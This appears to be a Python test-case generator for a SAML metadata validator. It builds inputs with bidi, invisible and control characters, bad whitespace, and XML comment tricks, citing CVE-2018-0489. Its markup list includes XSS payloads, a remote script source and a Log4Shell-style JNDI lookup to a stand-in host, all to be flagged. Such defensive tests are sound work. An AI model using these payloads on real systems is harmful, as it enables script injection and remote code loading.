"""Characters that are not seen, not read alike, or not only read."""

from collections.abc import Iterator

from members.saml.types import Severity

from .case import Case, bad, good, in_idp, refused
from .places import ATTRIBUTES, TEXTS, in_attribute, in_text

_BIDI = (0x061C, 0x200E, 0x200F, 0x202A, 0x202B, 0x202C, 0x202D, 0x202E, 0x2066, 0x2067, 0x2068, 0x2069)
_INVISIBLE = (
    0x00AD, 0x034F, 0x115F, 0x1160, 0x180E, 0x200B, 0x200C, 0x200D, 0x2060, 0x2061, 0x2064, 0x3164, 0xFE00, 0xFE0F,
    0xFEFF, 0xFFA0, 0xE0001, 0xE0041, 0xE0100,
)  # fmt: skip
_CONTROLS = (0x7F, 0x80, 0x85, 0x86, 0x90, 0x9B, 0x9F, 0x2028, 0x2029)
_MEANINGLESS = (0xFDD0, 0xFDEF, 0x1FFFE, 0x1FFFF, 0x10FFFF, 0xE000, 0xF8FF, 0xF0000, 0x0378, 0x2FE0, 0x50000)
_FORBIDDEN = (0x01, 0x08, 0x0B, 0x0C, 0x1F, 0xD800, 0xDFFF, 0xFFFE, 0xFFFF)
_DECOMPOSED = {
    "a ring": "A\u030akerlund",
    "two dots": "Ma\u0308lardalen",
    "a Kelvin sign": "30 \u212a",
    "an Angstrom sign": "\u212bkerlund",
    "Hangul in letters": "\u1112\u1161\u11ab",
    "accents in the wrong order": "a\u0301\u0323",
    "a composition exclusion": "\u0958",
}
_MARKUP = {
    "a script": "<script>alert(1)</script>",
    "a script in capitals": "<SCRIPT SRC=//ond.example/x>",
    "an image that fails": "<img src=x onerror=alert(1)>",
    "a drawing": "<svg/onload=alert(1)>",
    "bold letters": "<b>Region</b>",
    "an end tag": "</title>",
    "a comment": "<!-- x -->",
    "an instruction": "<?php echo 1 ?>",
    "a space in the tag": "< script >x",
    "an address of script": "javascript:alert(1)",
    "an address of script with a space": "JavaScript :alert(1)",
    "a template": "{{ 7 * 7 }}",
    "a template of Java": "${jndi:ldap://ond.example/x}",
    "a tag of a word processor": "<o:p>Region</o:p>",
}
_DISPLAY = (
    "mdui:DisplayName",
    "mdui:Description",
    "mdui:Keywords",
    "md:ServiceName",
    "md:ServiceDescription",
    "md:OrganizationName",
    "md:OrganizationDisplayName",
    "md:Company",
    "md:GivenName",
    "md:SurName",
)
_URIS = ("md:NameIDFormat", "mdui:Logo", "mdui:InformationURL", "mdui:PrivacyStatementURL", "md:OrganizationURL")
_URI_ATTRIBUTES = ("entityID", "Location", "ResponseLocation", "errorURL", "Name", "Algorithm", "Binding")


def cases() -> Iterator[Case]:
    for tag in TEXTS:
        yield from _in_every_text(tag)
    for name in ATTRIBUTES:
        yield from _in_every_attribute(name)
    yield from _characters()
    for tag in _DISPLAY:
        yield bad(f"mark-up in {tag}", "MD-XML-030", in_text(tag, "{0}&lt;b&gt;{1}"), Severity.ERROR)
        yield bad(
            f"two code points for a letter in {tag}", "MD-XML-027", in_text(tag, "{0}a\u030a{1}"), Severity.WARNING
        )
    for what, markup in _MARKUP.items():
        escaped = markup.replace("<", "&lt;").replace("{", "&#123;")
        yield bad(f"{what}, escaped", "MD-XML-030", in_text("mdui:DisplayName", escaped.replace("}", "&#125;")))
        yield bad(f"{what}, in CDATA", "MD-XML-030", in_idp("Inloggning för", f"<![CDATA[{markup}]]>"))
    yield from _white_space()
    yield from _pieces()


def _in_every_text(tag: str) -> Iterator[Case]:
    yield bad(f"a comment in {tag}", "MD-XML-007", in_text(tag, "{0}<!---->{1}"), Severity.ERROR)
    yield bad(
        f"a comment after {tag}'s text", "MD-XML-007", in_text(tag, "{0}{1}<!-- .ond.example -->"), Severity.ERROR
    )
    yield bad(f"a carriage return in {tag}", "MD-XML-011", in_text(tag, "{0}{1}&#13;"), Severity.WARNING)
    yield bad(f"a turn of direction in {tag}", "MD-XML-014", in_text(tag, "{0}\u202e{1}\u202c"), Severity.ERROR)
    yield bad(f"nothing visible in {tag}", "MD-XML-015", in_text(tag, "\u200b{0}{1}"), Severity.ERROR)
    yield good(f"CDATA in {tag}", in_text(tag, "{0}<![CDATA[{1}]]>"))


def _in_every_attribute(name: str) -> Iterator[Case]:
    yield bad(f"a turn of direction in @{name}", "MD-XML-014", in_attribute(name, "{0}\u202e{1}"), Severity.ERROR)
    yield bad(f"nothing visible in @{name}", "MD-XML-015", in_attribute(name, "{0}{1}\ufeff"), Severity.ERROR)
    yield bad(f"a carriage return in @{name}", "MD-XML-011", in_attribute(name, "{0}{1}&#xD;"), Severity.WARNING)


def _characters() -> Iterator[Case]:
    """One character of each kind in a text, as it is or by reference."""
    told = {"MD-XML-014": _BIDI, "MD-XML-015": _INVISIBLE, "MD-XML-013": _CONTROLS, "MD-XML-012": _MEANINGLESS}
    for rule, codes in told.items():
        for code in codes:
            yield bad(f"U+{code:04X}", rule, in_text("md:SurName", f"{{0}}{chr(code)}{{1}}"), Severity.ERROR)
        yield bad(f"U+{codes[0]:04X} by reference", rule, in_text("mdui:Description", f"{{0}}&#{codes[0]};{{1}}"))
    for code in _FORBIDDEN:
        yield refused(f"U+{code:04X} by reference", "MD-XML-001", in_text("md:SurName", f"{{0}}&#x{code:X};{{1}}"))
    for what, word in _DECOMPOSED.items():
        yield bad(f"not composed: {what}", "MD-XML-027", in_text("md:SurName", word), Severity.WARNING)
    for what, word in {"Cyrillic": "Больница", "Arabic": "مستشفى", "Chinese": "医院", "Sámi": "Buohccivissu"}.items():
        yield good(f"a name in {what}", in_text("md:SurName", word))


def _white_space() -> Iterator[Case]:
    for tag in _URIS:
        yield bad(f"a space in {tag}", "MD-XML-016", in_text(tag, "{0} {1}"), Severity.ERROR)
        yield bad(f"a line break in {tag}", "MD-XML-016", in_text(tag, "{0}\n      {1}"), Severity.ERROR)
        yield bad(f"spaces around {tag}", "MD-XML-029", in_text(tag, " {0}{1} "), Severity.WARNING)
    for name in _URI_ATTRIBUTES:
        yield bad(f"a space in @{name}", "MD-XML-016", in_attribute(name, "{0} {1}"), Severity.ERROR)
        severity = Severity.ERROR if name == "entityID" else Severity.WARNING
        yield bad(f"a space after @{name}", "MD-XML-016", in_attribute(name, "{0}{1} "), severity)
        yield bad(f"a tab before @{name}", "MD-XML-016", in_attribute(name, "&#9;{0}{1}"), severity)
        yield bad(f"a no-break space in @{name}", "MD-XML-016", in_attribute(name, "{0}\u00a0{1}"), Severity.ERROR)
    for tag in (*_DISPLAY, *_URIS, "md:EmailAddress", "md:TelephoneNumber"):
        yield bad(f"nothing in {tag}", "MD-XML-028", in_text(tag, ""), Severity.ERROR)
    for what, blank in {"spaces": "  ", "a no-break space": "\u00a0", "an ideographic space": "\u3000"}.items():
        yield bad(f"only {what}", "MD-XML-028", in_text("md:OrganizationName", blank), Severity.ERROR)
    yield bad("only a comment", "MD-XML-028", in_text("md:OrganizationName", "<!-- Region Norrvik -->"))
    yield bad("only an empty CDATA", "MD-XML-028", in_text("md:OrganizationName", "<![CDATA[]]>"))


def _pieces() -> Iterator[Case]:
    """A value in pieces, of which some readers see only the first (CVE-2018-0489)."""
    yield bad(
        "a scope that grows behind a comment", "MD-XML-007", in_text("shibmd:Scope", "vard.example<!-- -->.ond.example")
    )
    yield bad("a scope that begins with a comment", "MD-XML-007", in_text("shibmd:Scope", "<!-- -->vard.example"))
    yield bad("an address behind a comment", "MD-XML-007", in_text("md:EmailAddress", "mailto:a<!-- -->@vard.example"))
    yield bad("two comments in a format", "MD-XML-007", in_text("md:NameIDFormat", "{0}<!-- --><!-- -->{1}"))
    yield bad("an element in a name", "MD-SCH-001", in_text("mdui:DisplayName", "{0}<b>{1}</b>"))
    yield bad("an element in a scope", "MD-SCH-001", in_text("shibmd:Scope", "{0}<md:x/>{1}"))
    yield bad("an element in a certificate", "MD-SCH-001", in_text("ds:X509Certificate", "{0}<ds:x/>{1}"))
    yield good("CDATA twice", in_text("mdui:DisplayName", "<![CDATA[{0}]]><![CDATA[{1}]]>"))
    yield good("a CDATA end in two CDATA", in_text("mdui:Description", "<![CDATA[{0}]]]]><![CDATA[>{1}]]>"))
    yield good("letters by reference", in_text("mdui:DisplayName", "&#82;egion &#x4e;orrvik"))
    yield good(
        "an ampersand and angles that are no mark-up", in_text("mdui:Description", "Vård &amp; omsorg, 3 &lt; 5 &gt; 2")
    )
    yield good("a comment between elements", in_idp("<md:Extensions>", "<md:Extensions><!-- <md:Ond/> -->"))
    yield refused(
        "a comment with two hyphens", "MD-XML-001", in_idp("<md:Extensions>", "<!-- a -- b --><md:Extensions>")
    )
    yield refused("a comment in a tag", "MD-XML-001", in_idp("<md:Extensions>", "<md:Extensions <!-- x -->>"))
    yield refused("a CDATA end in a text", "MD-XML-001", in_text("mdui:Description", "{0}]]>{1}"))
